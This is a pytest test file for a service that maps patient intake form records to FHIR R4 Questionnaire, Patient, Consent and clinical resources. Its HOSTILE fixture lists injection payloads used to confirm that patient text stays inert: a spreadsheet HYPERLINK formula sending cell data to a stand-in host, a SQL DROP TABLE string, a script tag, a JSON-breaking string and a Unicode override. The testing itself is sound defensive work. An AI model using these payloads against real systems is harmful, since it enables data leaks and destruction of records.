"""The FHIR mapping: the form as a Questionnaire, a record as resources (pure, no I/O)."""

from __future__ import annotations

import json
import uuid
from datetime import UTC, date, datetime

import orjson
import pytest

from service.conversation.flow.questionnaire import load_questionnaire
from service.exports.fhir import systems
from service.exports.fhir.questionnaire import questionnaire_resource
from service.exports.fhir.resources import RecordMapper, administrative_gender
from tests.support.fhir import (
    answered_link_ids,
    answers,
    item_link_ids,
    questionnaire_reference,
    unresolved,
    validate,
)
from tests.support.records import make_record

SUBMITTED = datetime(2026, 11, 20, 10, 30, 15, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    '"}],"resourceType":"Bundle","x":[{"',
    "<script>alert(1)</script>",
    "Line one\nLine two",
    "Robert'); DROP TABLE patients;--",
    "\u3000\uff1d1+1 \u202eevil",
    "\u00a0 leading no-break space\u00a0",
)


@pytest.fixture(scope="module")
def mapper():
    return RecordMapper()


@pytest.fixture(scope="module")
def questionnaire():
    return questionnaire_resource()


def all_resources(mapped):
    return [resource for group in mapped.by_type().values() for resource in group]


# -- the Questionnaire --------------------------------------------------------------------------
def test_the_questionnaire_validates_as_fhir_r4_with_its_canonical_url_and_version(questionnaire):
    validate(questionnaire)
    assert questionnaire["url"] == systems.QUESTIONNAIRE_URL
    assert questionnaire["version"] == "1"
    assert questionnaire["status"] == "active"


def test_the_questionnaire_has_one_required_item_per_question_named_by_its_step_id(
    questionnaire,
):
    form = load_questionnaire("1")
    questions = [question.id for question in form.questions if question.stores != "none"]
    assert item_link_ids(questionnaire) == questions
    assert questions[:3] == ["language", "consent", "name"]
    assert all(item["required"] is True for item in questionnaire["item"])
    types = {item["linkId"]: item["type"] for item in questionnaire["item"]}
    assert types == {
        "language": "choice",
        "consent": "choice",
        "name": "string",
        "date_of_birth": "date",
        "gender": "choice",
        "address": "text",
        "medical_conditions": "open-choice",
        "current_medications": "open-choice",
    }


def test_choice_items_offer_the_forms_codes_in_their_standard_systems(questionnaire):
    options = {
        item["linkId"]: [(o["valueCoding"]["system"], o["valueCoding"]["code"]) for o in options]
        for item in questionnaire["item"]
        if (options := item.get("answerOption"))
    }
    gender = "http://hl7.org/fhir/administrative-gender"
    assert options["gender"] == [(gender, "female"), (gender, "male"), (gender, "other")]
    assert options["language"] == [("urn:ietf:bcp:47", "en"), ("urn:ietf:bcp:47", "es")]
    consent_codes = f"{systems.FORM_CODES}-consent"
    assert options["consent"] == [(consent_codes, "yes"), (consent_codes, "no")]
    conditions_codes = f"{systems.FORM_CODES}-medical_conditions"
    assert options["medical_conditions"] == [(conditions_codes, "none")]


def test_item_texts_are_english_with_the_spanish_wording_as_a_translation(questionnaire):
    (name,) = (item for item in questionnaire["item"] if item["linkId"] == "name")
    assert name["text"] == "What is your full name?"
    (translation,) = name["_text"]["extension"]
    assert translation["url"] == "http://hl7.org/fhir/StructureDefinition/translation"
    assert translation["extension"] == [
        {"url": "lang", "valueCode": "es"},
        {"url": "content", "valueString": "¿Cuál es su nombre completo?"},
    ]
    (gender,) = (item for item in questionnaire["item"] if item["linkId"] == "gender")
    female = gender["answerOption"][0]["valueCoding"]
    assert female["display"] == "Female"
    assert female["_display"]["extension"][0]["extension"][1]["valueString"] == "Femenino"


# -- a record's resources -----------------------------------------------------------------------
def test_every_resource_of_a_record_validates_and_its_references_resolve(mapper):
    mapped = mapper.map(make_record(submitted_at=SUBMITTED))
    resources = all_resources(mapped)
    assert [resource["resourceType"] for resource in resources] == [
        "Patient",
        "QuestionnaireResponse",
        "Consent",
        "Condition",
        "Condition",
        "MedicationStatement",
    ]
    for resource in resources:
        validate(resource)
    assert unresolved(resources) == []


def test_resource_ids_are_uuid5_of_the_record_id_and_the_same_in_every_export(mapper):
    record = make_record(submitted_at=SUBMITTED, record_id="0123456789abcdef")
    first, again = mapper.map(record), RecordMapper().map(record)
    assert first == again
    namespace = uuid.uuid5(uuid.NAMESPACE_URL, systems.NAMESPACE)
    assert first.patient["id"] == str(uuid.uuid5(namespace, "0123456789abcdef/Patient"))
    assert first.conditions[1]["id"] == str(uuid.uuid5(namespace, "0123456789abcdef/Condition/2"))
    other = mapper.map(make_record(submitted_at=SUBMITTED))
    assert not {r["id"] for r in all_resources(first)} & {r["id"] for r in all_resources(other)}


@pytest.mark.parametrize("gender", ["female", "male", "other"])
def test_each_gender_of_the_form_is_the_same_administrative_gender_code(mapper, gender):
    patient = mapper.map(make_record(gender=gender)).patient
    assert patient["gender"] == administrative_gender(gender) == gender


@pytest.mark.parametrize("gender", ["unknown", "", "Female", "non-binary"])
def test_a_gender_the_form_does_not_offer_is_refused_rather_than_coded(gender):
    with pytest.raises(ValueError, match="gender"):
        administrative_gender(gender)


def test_birth_date_and_times_are_fhir_date_and_datetimes(mapper):
    mapped = mapper.map(make_record(submitted_at=SUBMITTED, date_of_birth=date(1931, 12, 9)))
    assert mapped.patient["birthDate"] == "1931-12-09"
    assert answers(mapped.questionnaire_response, "date_of_birth") == [{"valueDate": "1931-12-09"}]
    assert mapped.questionnaire_response["authored"] == "2026-11-20T10:30:15+00:00"
    assert mapped.consent["dateTime"] == "2026-11-20T10:25:15+00:00"


def test_typed_values_stay_text_and_are_never_coded(mapper):
    mapped = mapper.map(make_record(name="Ana María de la Cruz", medical_conditions=("Asthma",)))
    assert mapped.patient["name"] == [{"text": "Ana María de la Cruz"}]  # not split
    assert mapped.patient["address"] == [{"text": make_record().address}]
    (condition,) = mapped.conditions
    assert condition["code"] == {"text": "Asthma"}
    assert condition["verificationStatus"]["coding"][0]["code"] == "unconfirmed"
    assert "clinicalStatus" not in condition
    (medication,) = mapped.medication_statements
    assert medication["medicationCodeableConcept"] == {"text": "Metformin 500mg"}


def test_none_lists_give_no_clinical_resources_and_answer_the_none_code(mapper):
    mapped = mapper.map(make_record(medical_conditions=(), current_medications=()))
    assert mapped.conditions == mapped.medication_statements == []
    for link_id in ("medical_conditions", "current_medications"):
        (answer,) = answers(mapped.questionnaire_response, link_id)
        assert answer["valueCoding"]["code"] == "none"
        assert answer["valueCoding"]["system"] == f"{systems.FORM_CODES}-{link_id}"
    for resource in all_resources(mapped):
        validate(resource)


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_stays_inert_text_on_one_ndjson_line(mapper, value):
    record = make_record(
        name="Ana " + value,
        address="Calle " + value,
        medical_conditions=(value,),
        current_medications=(value, "Aspirin"),
    )
    mapped = mapper.map(record)
    for resource in all_resources(mapped):
        line = orjson.dumps(resource, option=orjson.OPT_APPEND_NEWLINE)
        assert line.count(b"\n") == 1  # a line break in the text is escaped
        assert json.loads(line) == resource  # nothing the patient typed changed the structure
        validate(resource)
    assert mapped.patient["name"][0]["text"] == ("Ana " + value).strip()
    assert mapped.patient["address"][0]["text"] == ("Calle " + value).strip()
    assert set(mapped.patient) <= {
        "resourceType", "id", "identifier", "name", "telecom", "gender", "birthDate",
        "address", "communication",
    }  # fmt: skip
    # As typed, but for leading and trailing blanks, which the form's parsers trim too.
    assert mapped.conditions[0]["code"]["text"] == value.strip()
    assert mapped.medication_statements[0]["medicationCodeableConcept"]["text"] == value.strip()


def test_a_username_patient_has_no_telecom_but_an_identifier_for_their_whatsapp_user_id(mapper):
    patient = mapper.map(make_record(wa_id=None, bsuid="ES.1410018717833190")).patient
    assert "telecom" not in patient
    assert patient["identifier"] == [
        {"system": systems.BSUID_SYSTEM, "value": "ES.1410018717833190"}
    ]
    validate(patient)


def test_a_phone_patient_has_a_mobile_phone_and_identifiers_for_each_whatsapp_id(mapper):
    patient = mapper.map(make_record(bsuid="ES.1410018717833190")).patient
    assert patient["telecom"] == [{"system": "phone", "value": "+34612345678", "use": "mobile"}]
    assert patient["identifier"] == [
        {"system": systems.BSUID_SYSTEM, "value": "ES.1410018717833190"},
        {"system": systems.WHATSAPP_ID_SYSTEM, "value": "34612345678"},
    ]


@pytest.mark.parametrize(("language", "display"), [("es", "Español"), ("en", "English")])
def test_the_patients_language_is_on_the_patient_consent_and_response(mapper, language, display):
    mapped = mapper.map(make_record(language=language))
    (communication,) = mapped.patient["communication"]
    assert communication["language"]["coding"] == [
        {"system": "urn:ietf:bcp:47", "code": language, "display": display}
    ]
    assert mapped.consent["language"] == mapped.questionnaire_response["language"] == language
    (answer,) = answers(mapped.questionnaire_response, "language")
    assert answer["valueCoding"]["code"] == language


def test_a_response_answers_exactly_the_questionnaires_items(mapper, questionnaire):
    mapped = mapper.map(make_record())
    response = mapped.questionnaire_response
    assert response["questionnaire"] == questionnaire_reference("1")
    assert response["status"] == "completed"
    assert [item["linkId"] for item in response["item"]] == item_link_ids(questionnaire)
    assert answered_link_ids(response) == item_link_ids(questionnaire)  # each with an answer
    patient = {"reference": f"Patient/{mapped.patient['id']}"}
    assert response["subject"] == response["source"] == patient


def test_the_consent_is_active_dated_and_points_at_the_form_and_the_response(mapper):
    mapped = mapper.map(make_record(submitted_at=SUBMITTED))
    consent = mapped.consent
    assert consent["status"] == "active"
    assert consent["patient"] == {"reference": f"Patient/{mapped.patient['id']}"}
    assert consent["policy"] == [{"uri": questionnaire_reference("1")}]
    assert consent["sourceReference"] == {
        "reference": f"QuestionnaireResponse/{mapped.questionnaire_response['id']}"
    }
    (consented,) = answers(mapped.questionnaire_response, "consent")
    assert consented["valueCoding"]["code"] == "yes"
